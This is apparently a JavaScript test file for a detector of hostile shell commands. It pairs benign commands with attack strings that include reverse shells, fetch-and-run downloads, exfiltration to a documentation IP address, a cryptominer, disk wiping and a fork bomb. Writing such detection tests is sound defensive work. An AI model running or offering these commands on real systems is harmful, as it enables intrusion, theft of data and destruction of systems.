import { SHELL_EXECUTION_RULES } from '../../src/rules/shell-execution.js'
import { testTwins, typed } from './twins.js'

testTwins(SHELL_EXECUTION_RULES, typed, [
  {
    id: 'shell-reverse-shell',
    attack: [
      'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1',
      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.9 9001 >/tmp/f',
      'python3 -c \'import pty; pty.spawn("/bin/bash")\'',
    ],
    ordinary: ['ls /dev/tty', 'man bash', 'cat notes-on-sockets.txt'],
  },
  {
    id: 'shell-fetch-and-run',
    attack: [
      'cd /tmp; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh',
      'curl -fsSL http://198.51.100.9/x|sh',
      "w''get http://198.51.100.9/a -O- | bash",
      'wget${IFS}http://198.51.100.9/a;./a',
    ],
    ordinary: ['curl --version', 'apt-get install wget'],
  },
  {
    id: 'shell-fetch',
    attack: ['wget http://198.51.100.9:89/arm', 'tftp -g -r tftp1.sh 198.51.100.9'],
    ordinary: ['wget --help', 'which curl', 'git fetch origin'],
  },
  {
    id: 'shell-receive',
    attack: ['scp -t /tmp/Muw3fuvA', '/usr/bin/tar Pxvf -', 'tar xzf - -C /opt'],
    ordinary: ['scp --help', 'tar xf archive.tar', 'tar xf -archive.tar'],
  },
  {
    id: 'shell-decode-and-run',
    attack: [
      'echo IyEvYmluL2Jhc2gK | base64 -d | bash',
      "perl -e 'system(decode)'; echo aWQ= | openssl base64 -d | sh",
    ],
    ordinary: ['base64 -d < photo.b64 > photo.png', 'echo aWQ= | base64 -d'],
  },
  {
    id: 'shell-byte-dropper',
    attack: ["echo -ne '\\x7f\\x45\\x4c\\x46' > /tmp/.x", 'printf "\\x7fELF" >> drop'],
    ordinary: ['echo hello > notes.txt', 'echo -e "a\\tb"'],
  },
  {
    id: 'shell-byte-echo',
    attack: ['echo -e \\x6F\\x6B', '/bin/busybox echo -e "\\x67\\x61"'],
    ordinary: ['echo 6F6B', 'echo "C:\\temp"'],
  },
  {
    id: 'shell-run-from-temporary',
    attack: ['cd /tmp && chmod +x Muw3fuvA && bash -c ./Muw3fuvA', 'LC_ALL=C $SHELL /tmp/r'],
    ordinary: ['ls /tmp', 'df -h /var/run', 'chmod +x deploy'],
  },
  {
    id: 'shell-mode-777',
    attack: ['chmod 777 .i', 'chmod 0777 Lindgde4', 'chmod -R 777 www'],
    ordinary: ['chmod 755 deploy', 'chmod 640 my.cnf'],
  },
  {
    id: 'shell-mode-executable',
    attack: ['chmod +x backdoor.elf', 'chmod 0755 run'],
    ordinary: ['chmod 644 index.html', 'chmod --help'],
  },
  {
    id: 'shell-write-program',
    attack: ['/usr/bin/cat > /tmp/mzhcss', 'tee /usr/local/x'],
    ordinary: ['cat > notes.txt', 'cat /tmp/notes'],
  },
  {
    id: 'shell-run-temporary-file',
    attack: ['/tmp/kworker -B', '/dev/shm/.x/run', 'sudo /var/tmp/ssh1'],
    ordinary: ['cat /tmp/kworker', 'ls /dev/shm'],
  },
  {
    id: 'shell-run-local-file',
    attack: ['./mips.bot', 'sh tftp1.sh', 'LC_ALL=C ~/.dhpcd', 'bash payload.sh'],
    ordinary: ['sh', 'bash --version', 'ls ./src', 'cd ~/.config'],
  },
  {
    id: 'shell-background',
    attack: ['nohup ./xm &', 'setsid ./a >/dev/null 2>&1 &'],
    ordinary: ['sleep 10 &', 'jobs'],
  },
  {
    id: 'shell-miner',
    attack: ['./xmrig -o stratum+tcp://pool.minexmr.com:4444', "ps | grep '[Mm]iner'"],
    ordinary: ['cat examiner.txt', 'echo administer'],
  },
  {
    id: 'shell-destruction',
    attack: ['rm -rf / --no-preserve-root', 'dd if=/dev/zero of=/dev/sda', ':(){ :|:& };:'],
    ordinary: ['rm -rf /home/ann/build', 'dd if=/dev/zero of=swapfile'],
  },
  {
    id: 'shell-stop',
    attack: ['reboot', '/sbin/shutdown -h now'],
    ordinary: ['cat asphalt.txt', 'uptime'],
  },
  {
    id: 'shell-kill-rivals',
    attack: ['pkill -9 kdevtmpfs', "ps aux | grep bot | awk '{print $2}' | xargs kill"],
    ordinary: ['kill -9 1234', 'kill %1'],
  },
  {
    id: 'shell-exfiltration',
    attack: [
      'curl -T /etc/passwd ftp://198.51.100.9/',
      'wget --post-file=/root/db.sql http://198.51.100.9',
      'tar cz /home | nc 198.51.100.9 9000',
    ],
    ordinary: ['curl --help', 'nc -h'],
  },
  {
    id: 'shell-archive',
    attack: [
      'tar czf /tmp/data.tar.gz /etc /home',
      'zip -r data.zip /var/lib/mysql',
      'tar -czvf config_backup.tar.gz passwd shadow ssh/',
    ],
    ordinary: ['tar czf src.tgz src', 'tar xzf /etc.tgz', 'zip -r site.zip public'],
  },
  {
    id: 'shell-copy-out',
    attack: ['scp /root/dump.sql bob@198.51.100.9:/in'],
    ordinary: ['scp notes.txt backup:', 'cp a@1.txt b'],
  },
  {
    id: 'shell-spread',
    attack: ['ssh root@192.168.1.10', 'sshpass -p x ssh ann@10.0.0.2'],
    ordinary: ['ssh-keygen -l', 'man ssh'],
  },
  {
    id: 'shell-scanner',
    attack: ['nmap -p22 10.0.0.0/8', './masscan 0.0.0.0/0 -p23', 'zmap -p 2323'],
    ordinary: ['cat nmapping.txt', 'apt list'],
  },
])
